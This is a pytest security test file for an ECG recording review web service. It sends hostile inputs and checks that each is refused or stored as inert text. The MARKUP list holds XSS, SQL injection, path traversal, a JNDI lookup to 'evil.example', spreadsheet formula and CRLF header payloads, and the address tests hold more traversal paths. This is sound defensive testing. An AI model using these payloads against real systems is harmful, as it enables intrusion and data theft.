"""What is sent to do harm is refused, or shown as text; memory and disk stay bounded."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from app_session import API, Session, started

from ectopy.review.limits import Limits

MARKUP = [
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "'; DROP TABLE recordings; --",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "\u202egnp.exe",
    "a\0b",
    "\ud7ff\ue000\ufffe",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example/a}",
    "CON",
    "-rf /",
    "x" * 300,
    "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b",
]


@pytest.mark.parametrize("name", MARKUP, ids=range(len(MARKUP)))
def test_a_name_is_text_wherever_it_goes(session: Session, tmp_path: Path, name: str) -> None:
    http = session.http
    answer = http.post(f"{API}/recordings", json={"name": name, "files": [name]})
    assert answer.status_code == 201
    told = answer.json()
    assert told["name"].isprintable()
    assert len(told["name"]) <= 200
    assert http.put(f"{API}/recordings/{told['id']}/files/0", content=b"x").status_code == 200
    folder = tmp_path / "store" / "recordings" / told["id"] / "files"
    assert [path.name for path in folder.iterdir()] in (["file0"], ["file0.dat"])
    assert not (tmp_path / "store").joinpath("..", "etc").exists()
    for address in ("session", "recordings"):
        assert "set-cookie" not in http.get(f"{API}/{address}").headers
    # The recording that is ready goes by such a name in its report and its files, too.
    session.review.store.change(session.recording, name=told["name"])
    session.review._opened.clear()
    report = http.get(f"{session.at}/export/report")
    assert "<script>alert" not in report.text
    assert "<img src=x" not in report.text
    disposition = report.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.isascii()
    assert not set(disposition.removeprefix('attachment; filename="')) & set("<>/\\;\r\n")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"[]",
        b'"text"',
        b"{",
        b"\xff\xfe\x00",
        b"[" * 100_000,
        b'{"edit": ' * 50_000,
        b'{"edit": {"kind": "relabel", "samples": [1e400], "to": "V"}}',
        b'{"edit": {"kind": "relabel", "samples": [-1], "to": "V"}}',
        b'{"edit": {"kind": "relabel", "samples": [' + b"9" * 5000 + b'], "to": "V"}}',
        b'{"edit": {"kind": "relabel", "samples": [NaN], "to": "V"}}',
        b'{"edit": {"kind": "relabel", "samples": [], "to": "V"}}',
        b'{"edit": {"kind": "relabel", "samples": [5], "to": "<b>"}}',
        b'{"edit": {"kind": "__class__", "samples": [5]}}',
        b'{"edit": {"kind": "relabel", "samples": [5], "to": "V", "more": 1}}',
        b'{"edit": {"kind": "artefact", "start": 5, "stop": 4}}',
        b'{"edit": {"kind": "artefact", "start": 0, "stop": 9007199254740992}}',
        b'{"edit": {"kind": "insert", "sample": 9007199254740992, "to": "V"}}',
        b'{"edit": {"kind": "accept", "item": "<script>"}}',
        b'{"edit": {"kind": "merge", "clusters": [], "into": {"of": "N", "cluster": 1}}}',
    ],
    ids=range(21),
)
def test_an_edit_that_is_none_is_refused_and_changes_nothing(reading: Session, body: bytes) -> None:
    answer = reading.http.post(
        f"{reading.at}/edits", content=body, headers={"Content-Type": "application/json"}
    )
    assert 400 <= answer.status_code < 500
    assert list(answer.json()) == ["error"]
    assert len(answer.json()["error"]) < 600
    assert "<script>" not in answer.headers.get("content-type", "")
    assert reading.review.opened(reading.recording).log == []


@pytest.mark.parametrize(
    "address",
    [
        "/recordings/../../etc/passwd",
        "/recordings/%2e%2e%2f%2e%2e/signal",
        "/recordings/0000000000000000/signal",
        "/recordings/ZZZZZZZZZZZZZZZZ/signal",
        "/recordings/{id}/window?start=0&stop=1e9",
        "/recordings/{id}/window?start=0&stop=9007199254740993",
        "/recordings/{id}/window?start=0&stop=100&leads=0,99",
        "/recordings/{id}/window?start=0&stop=100&leads=-1",
        "/recordings/{id}/window?start=0&stop=100&leads=a",
        "/recordings/{id}/window?start=0&stop=100&columns=100000000",
        "/recordings/{id}/beats?limit=1000000",
        "/recordings/{id}/beats?start_s=nan",
        "/recordings/{id}/beats?label=X",
        "/recordings/{id}/clusters/N/99999999999",
        "/recordings/{id}/export/..%2f..%2fstore",
        "/recordings/{id}/export/passwd",
        "/recordings/{id}/why/-1",
        "/recordings/{id}/agreement?a=%00&b=model",
        "/folder/5",
        "/../../../etc/passwd",
    ],
)
def test_an_address_that_is_none_is_refused(reading: Session, address: str) -> None:
    method = "POST" if address.startswith("/folder") else "GET"
    answer = reading.http.request(method, f"{API}{address}".replace("{id}", reading.recording))
    assert 400 <= answer.status_code < 500, answer.text
    assert list(answer.json()) == ["error"]


@pytest.mark.slow
def test_two_hundred_inputs_of_the_corpus_end_well(tmp_path: Path) -> None:
    """Each becomes ready or fails in one sentence; the server answers all along."""
    from cases import Case
    from families import FAMILIES

    every: list[Case] = [case for cases in FAMILIES.values() for case in cases()]
    chosen = every[:: max(1, len(every) // 200)][:200]
    known = {"fs_hz", "units", "gain"}
    wrong, ended = [], {"ready": 0, "failed": 0, "refused": 0}
    limits = Limits(at_once=2, file_bytes=64 << 20)
    for session in started(tmp_path / "store", "", limits=limits):
        http = session.http
        for i, case in enumerate(chosen):
            source = tmp_path / str(i)
            source.mkdir()
            case.make(source)
            files = sorted(path for path in source.rglob("*") if path.is_file())[:64]
            if not files or not set(case.stated) <= known:
                continue
            stated = {name: value for name, value in case.stated.items() if value is not None}
            answer = http.post(
                f"{API}/recordings", json={"files": [path.name for path in files], **stated}
            )
            if answer.status_code in (400, 422):
                ended["refused"] += 1
                continue
            at = f"{API}/recordings/{answer.json()['id']}"
            sent = [
                http.put(f"{at}/files/{n}", content=f.read_bytes()) for n, f in enumerate(files)
            ]
            if {one.status_code for one in sent} - {200, 400, 409, 413}:
                wrong.append(f"{case.name}: sending answered {[s.status_code for s in sent]}")
            begun = http.post(f"{at}/analyse")
            if begun.status_code in (400, 409):
                ended["refused"] += 1
                http.delete(at)
                continue
            end = time.monotonic() + 120
            told = http.get(at).json()
            while told["state"] in ("waiting", "analysing") and time.monotonic() < end:
                time.sleep(0.05)
                told = http.get(at).json()
            if told["state"] not in ended:
                wrong.append(f"{case.name}: it is {told['state']}")
                continue
            ended[told["state"]] += 1
            if str(tmp_path) in told["message"] or "defect" in told["message"]:
                wrong.append(f"{case.name}: {told['message']}")
            if told["state"] == "ready":
                parts = ("signal", "summary", "queue", "clusters", "rhythm", "beats")
                answers = {what: http.get(f"{at}/{what}").status_code for what in parts}
                wrong += [f"{case.name}: {w} answered {s}" for w, s in answers.items() if s != 200]
            if http.delete(at).status_code != 204:
                wrong.append(f"{case.name}: it cannot be deleted")
        left = list((tmp_path / "store" / "recordings").iterdir())
        assert not left
    assert not wrong, f"{ended}\n" + "\n".join(wrong)
    assert min(ended["ready"], ended["failed"]) > 10
